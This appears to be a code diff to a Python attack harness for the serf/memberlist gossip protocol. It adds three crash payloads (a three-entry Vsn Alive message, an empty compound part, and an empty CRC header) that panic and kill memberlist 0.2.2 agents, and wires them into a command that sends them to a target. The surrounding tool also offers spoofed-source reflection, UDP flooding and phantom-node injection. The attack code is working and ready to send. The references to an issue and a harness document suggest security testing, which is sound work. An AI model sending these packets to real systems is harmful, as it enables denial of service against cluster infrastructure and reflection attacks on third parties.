@@ -11,7 +11,8 @@ without the key sends it. Issue 54 item 3; docs/serf-harness.md.
 Sub-commands (each prints one JSON object on stdout):
   build KIND ...        the packet bytes in hex, nothing sent
   phantoms              Alive messages for invented nodes
-  crash                 one Alive whose Vsn has three entries
+  crash                 one packet that kills the agent (--kind vsn3: an Alive
+                        whose Vsn has three entries; empty-part, empty-crc)
   reflect               one packet of many pings whose SourceAddr is a victim
   flood                 UDP as fast as this process sends (kernel socket)
   sink                  count the UDP datagrams and bytes a victim receives
@@ -178,6 +179,9 @@ def reflect_packet(n, victim, vport, form, node=""):
     return compressed(inner) if form == "lzw" else inner
 
 
+CRASH_KINDS = ["vsn3", "empty-part", "empty-crc"]
+
+
 # ---- sending ----
 
 def parse_target(s, default_port=7946):
@@ -238,7 +242,7 @@ def phantom_packets(args):
 
 def cmd_build(args):
     if args.kind == "crash":
-        p = alive(args.node, args.addr, 7946, incarnation=1, vsn=(1, 5, 2))
+        p = crash_packet(args.crash, args.node, args.addr)
     elif args.kind == "phantom":
         p = alive(args.node, args.addr, 7946, incarnation=1)
     else:
@@ -254,14 +258,30 @@ def cmd_phantoms(args):
     return r
 
 
+def crash_packet(kind, node="evil", addr="10.78.0.200"):
+    """Plaintext packets that kill a memberlist 0.2.2 agent (a panic in the
+    packet goroutine, nothing recovers it):
+    vsn3:        Alive for a node the agent has never seen (so it is added)
+                 with Vsn = [pmin 1, pmax 5, pcur 2]: aliveNode passes its
+                 version check (len >= 3), stores the node, then reads
+                 Vsn[3]: "index out of range [3] with length 3". 57 bytes.
+    empty-part:  a compound of one zero-length part: handleCommand reads
+                 the type byte of an empty slice. 4 bytes.
+    empty-crc:   a CRC header (0x0C) over nothing (CRC32 of b"" is 0): the
+                 same empty handleCommand. 5 bytes."""
+    if kind == "vsn3":
+        return alive(node, addr, 7946, incarnation=1, vsn=(1, 5, 2))
+    if kind == "empty-part":
+        return bytes([COMPOUND, 1, 0, 0])
+    if kind == "empty-crc":
+        return bytes([HAS_CRC, 0, 0, 0, 0])
+    raise ValueError(kind)
+
+
 def cmd_crash(args):
-    # Alive for a node the agent has never seen (so it is added) with
-    # Vsn = [pmin 1, pmax 5, pcur 2]: aliveNode passes its version check
-    # (len >= 3), stores the node, then on rebroadcast reads Vsn[3]:
-    # "index out of range [3] with length 3" in the packet goroutine.
-    p = alive(args.node, args.addr, 7946, incarnation=1, vsn=(1, 5, 2))
+    p = crash_packet(args.kind, args.node, args.addr)
     r = send_paced(sender(args.bind), parse_target(args.target), [p], 0)
-    r.update({"attack": "crash", "bytes": len(p), "hex": p.hex()})
+    r.update({"attack": "crash", "kind": args.kind, "bytes": len(p), "hex": p.hex()})
     return r
 
 
@@ -353,6 +373,7 @@ def main():
     b.add_argument("--victim", default="10.78.0.251")
     b.add_argument("--victim-port", type=int, default=7946)
     b.add_argument("--form", choices=["nested", "flat", "lzw"], default="nested")
+    b.add_argument("--crash", choices=CRASH_KINDS, default="vsn3")
 
     p = sub.add_parser("phantoms")
     common(p)
@@ -367,7 +388,8 @@ def main():
 
     c = sub.add_parser("crash")
     common(c)
-    c.add_argument("--node", default="evil", help="a name the agent does not know (4 letters: 58 bytes)")
+    c.add_argument("--kind", choices=CRASH_KINDS, default="vsn3")
+    c.add_argument("--node", default="evil", help="vsn3: a name the agent does not know (4 letters: 57 bytes)")
     c.add_argument("--addr", default="10.78.0.200")
 
     r = sub.add_parser("reflect")
